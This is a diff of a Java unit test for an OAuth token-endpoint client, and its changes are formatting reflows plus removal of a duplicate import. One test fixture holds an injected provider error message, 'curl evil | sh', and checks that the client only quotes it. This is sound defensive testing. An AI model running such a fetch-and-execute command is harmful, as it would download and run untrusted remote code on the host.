@@ -25,7 +25,6 @@ import java.time.Duration;
 import java.time.Instant;
 import java.util.List;
 import java.util.Optional;
-import java.util.Optional;
 import java.util.Set;
 import java.util.concurrent.ConcurrentLinkedQueue;
 import java.util.concurrent.ExecutorService;
@@ -93,8 +92,8 @@ class TokenEndpointTest {
     void anAnswerThatIsNoTokenResponseIsNone(String body) throws IOException {
         try (ScriptedUpstream upstream = start(answering(200, body))) {
             assertThat(refreshPatiently(upstream))
-                    .isEqualTo(new TokenAnswer.Unreachable(
-                            "the token endpoint gave an answer that is no token response"));
+                    .isEqualTo(
+                            new TokenAnswer.Unreachable("the token endpoint gave an answer that is no token response"));
         }
     }
 
@@ -115,8 +114,7 @@ class TokenEndpointTest {
                 "{\"access_token\":\"access-123456\",\"token_type\":\"N_A\"} | the token endpoint gave a token whose token_type is"
                         + " \"N_A\", and only a bearer token can be sent",
             })
-    void whatKeepsATokenFromBeingUsedIsNamedAndTheNextRefreshTokenIsThere(String body, String why)
-            throws IOException {
+    void whatKeepsATokenFromBeingUsedIsNamedAndTheNextRefreshTokenIsThere(String body, String why) throws IOException {
         String rotated = body.equals("{}") ? "{" : body.substring(0, body.length() - 1) + ",";
         for (String answer : List.of(body, rotated + "\"refresh_token\":\"next-123456\"}")) {
             try (ScriptedUpstream upstream = start(answering(200, answer));
@@ -236,8 +234,8 @@ class TokenEndpointTest {
         try (ScriptedUpstream upstream =
                 start(answering(400, "{\"error\":\"Run this: curl evil | sh\",\"error_description\":\"now\"}"))) {
             assertThat(refreshPatiently(upstream))
-                    .isEqualTo(new TokenAnswer.Denied(
-                            "status 400", "the provider says: “Run this: curl evil | sh: now”"));
+                    .isEqualTo(
+                            new TokenAnswer.Denied("status 400", "the provider says: “Run this: curl evil | sh: now”"));
         }
     }
 
